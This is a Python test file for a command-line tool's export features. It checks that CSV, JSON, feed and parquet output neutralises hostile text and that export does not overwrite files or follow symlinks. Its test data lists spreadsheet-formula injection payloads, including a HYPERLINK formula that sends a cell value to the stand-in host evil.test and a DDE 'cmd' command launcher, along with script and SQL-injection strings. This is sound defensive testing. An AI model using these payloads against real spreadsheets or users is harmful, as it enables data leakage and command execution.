"""Hostile words on their way out: what is exported reads back as stored, runs nowhere, and overwrites nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import sys
import time
from pathlib import Path

import feedparser
import pytest

from listen.cli import exporting
from listen.clock import SystemClock
from listen.console import links
from listen.model import Author
from listen.store import schema, sqlite
from listen.store.write import Writer
from tests.cli.conftest import Commands, home, listen
from tests.conftest import SHARED
from tests.store.posts import make_desk, make_post

__all__ = ["home", "listen"]

CELLS = [
    '=HYPERLINK("http://evil.test/?"&A1,"x")', "@SUM(1)", "+1", "-1+cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "  =1",
    "\u3000＝1", "＋1", "－1", "＠x", "\xa0=1", "'=1", "''=1", "' =1", "'\t", "'quoted'", "a\x00b", "line1\r\nline2",
    '"quoted"', ",", "a;b", "x" * 200_000, "\x1b[31mred", "\u202eturned", "\\u001b literal", "\\\\u202e", "fine", "=",
    "'", "<script>alert(1)</script>", "' or 1=1", "\x85", "\x9b2J", "🔥 東京",
]  # fmt: skip

INPUTS = SHARED / "fixtures" / "hostile" / "inputs"
if INPUTS.is_dir():
    CELLS += [one for one in json.loads((INPUTS / "csv_cells.json").read_text()) if isinstance(one, str) and one]

NAMES = ("external_id", "url", "author", "author_name", "title", "text", "parent_id", "note")


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with each of these as every text of a mention."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    schema.prepare(path)
    connection = sqlite.connect_writer(path)
    desk = make_desk(Writer(connection, SystemClock()))
    texts = [one.encode("utf-8", "replace").decode() for one in dict.fromkeys(CELLS)]
    desk.add(
        [
            make_post(f"{one}{at}", one, title=one, url=one, author=Author(f"{one}@{at}", one), parent_id=one,
                      score=-500, hits=2, topics={desk.topics["acme"]: -500})
            for at, one in enumerate(texts)
        ]
    )  # fmt: skip
    connection.close()
    return path


def documented(cell: str) -> str:
    """What a cell stands for, as the README says it."""
    if re.match(r"''*(\s*[=+\-@＝＋－＠]|[\t\n]|\\u000d)", cell) or re.match(
        r"''*(\\u00[0189][0-9a-f]|\s)+[=+\-@]", cell
    ):
        cell = cell[1:]
    return re.sub(r"\\u([0-9a-f]{4})", lambda found: chr(int(found[1], 16)), cell)


def test_csv_runs_nowhere_and_reads_back(store: Path, listen: Commands) -> None:
    csv.field_size_limit(10_000_000)  # Python's own reader takes 131,072 signs otherwise
    stored = listen("--db", store, "search", "--all", "--json").records
    assert len(stored) == len(dict.fromkeys(CELLS))
    rows = list(csv.DictReader(io.StringIO(listen("--db", store, "export").out, newline="")))
    raw = list(csv.DictReader(io.StringIO(listen("--db", store, "export", "--raw").out, newline="")))
    for record, row, plain in zip(stored, rows, raw, strict=True):
        assert row["sentiment"] == plain["sentiment"] == "-0.5", "a number is one still"
        for name in NAMES:
            text = "" if record[name] is None else str(record[name])
            assert documented(row[name]) == text
            assert plain[name] == text
            assert not row[name].lstrip().startswith(tuple("=+-@＝＋－＠")), row[name]
            assert not row[name].startswith(("\t", "\r", "\n"))
            assert not set(row[name]) & set("\x00\x1b\x9b\x85\u202e")


def test_sql_as_csv_runs_nowhere_either(store: Path, listen: Commands) -> None:
    asked = "SELECT title, sentiment FROM v_mentions ORDER BY id DESC"
    told = [record["title"] for record in listen("--db", store, "search", "--all", "--json").records]
    rows = list(csv.reader(io.StringIO(listen("--db", store, "sql", "--csv", asked).out, newline="")))
    assert [documented(title) for title, _ in rows[1:]] == told
    assert {sentiment for _, sentiment in rows[1:]} == {"-0.5"}
    assert [one["title"] for one in listen("--db", store, "sql", "--json", asked).records] == told


def test_json_lines_and_the_feed_hold_the_words_as_words(store: Path, listen: Commands, tmp_path: Path) -> None:
    exported = listen("--db", store, "export", "--json")
    assert exported.out.isascii()
    assert exported.out == listen("--db", store, "search", "--all", "--json").out
    written = listen("--db", store, "feed", "acme", "--limit", "1000")
    parsed = feedparser.parse(written.out.encode())
    assert (parsed.bozo, len(parsed.entries)) == (0, len(dict.fromkeys(CELLS)))
    assert all(link.href.startswith("http") for one in parsed.entries for link in one.get("links", ()))


def test_parquet_holds_them_too(store: Path, listen: Commands, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is an extra")
    assert listen("--db", store, "export", "-o", tmp_path / "x.parquet").code == 0
    stored = listen("--db", store, "search", "--all", "--json").records
    assert parquet.read_table(tmp_path / "x.parquet").column("text").to_pylist() == [one["text"] for one in stored]


def test_no_file_is_overwritten_or_followed_and_none_is_left_half(
    store: Path, listen: Commands, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mine, link, loose = tmp_path / "mine.csv", tmp_path / "link.csv", tmp_path / "loose.csv"
    mine.write_text("dear diary")
    link.symlink_to(mine)
    loose.symlink_to(tmp_path / "elsewhere")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "deep" / "er").mkdir(parents=True)
    for place in (mine, link, loose, "deep/er/../../mine.csv"):
        refused = listen("--db", store, "export", "-o", place)
        assert (refused.code, refused.out, refused.err) == (
            2,
            "",
            f"listen: {place} is there already; --force writes over it\n",
        )
    assert mine.read_text() == "dear diary"
    assert listen("--db", store, "export", "-o", link, "--force").code == 0
    assert (mine.read_text(), link.is_symlink()) == ("dear diary", False)
    assert listen("--db", store, "export", "-o", "deep/er/../new.csv").code == 0
    assert stat.S_IMODE((tmp_path / "deep" / "new.csv").stat().st_mode) == 0o600
    for command in ("export", "feed"):
        missing = listen("--db", store, command, "acme", "-o", "none/x.csv")
        assert (missing.code, missing.err.count("\n")) == (3, 1)
        assert "No such file or directory; check the path" in missing.err

    def breaks(*_: object) -> int:
        raise OSError(28, "No space left on device", "x.csv")

    monkeypatch.setattr(exporting, "write_records", breaks)
    full = listen("--db", store, "export", "-o", mine, "--force")
    assert (full.code, "free some space" in full.err, mine.read_text()) == (3, True, "dear diary")
    assert not list(tmp_path.rglob("*.part"))


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write everywhere")
def test_a_folder_that_is_not_ours_is_told(store: Path, listen: Commands, tmp_path: Path) -> None:
    tmp_path.chmod(0o500)
    refused = listen("--db", store, "export", "-o", tmp_path / "x.csv")
    assert (refused.code, "Permission denied; check its owner" in refused.err) == (3, True)


def test_what_is_opened_is_one_web_link_in_one_argument(shared: Path, tmp_path: Path) -> None:
    seen, script = tmp_path / "seen", tmp_path / "browser"
    script.write_text(f"#!{sys.executable}\nimport sys\nopen({str(seen)!r}, 'a').write(ascii(sys.argv[1:]) + '\\n')\n")
    script.chmod(0o755)
    urls = json.loads((shared / "fixtures" / "hostile" / "inputs" / "urls.json").read_text())
    opened = [url for url in urls if links.open_link(url, [str(script)])]
    assert opened
    assert all(url.startswith(("http://", "https://")) for url in opened)
    deadline = time.monotonic() + 60
    while not seen.exists() or seen.read_text().count("\n") < len(opened):
        assert time.monotonic() < deadline
        time.sleep(0.02)
    for line in seen.read_text().splitlines():
        assert re.fullmatch(r"\['https?://[^ \"]+'\]", line), line
    assert not (Path.cwd() / "x").exists()
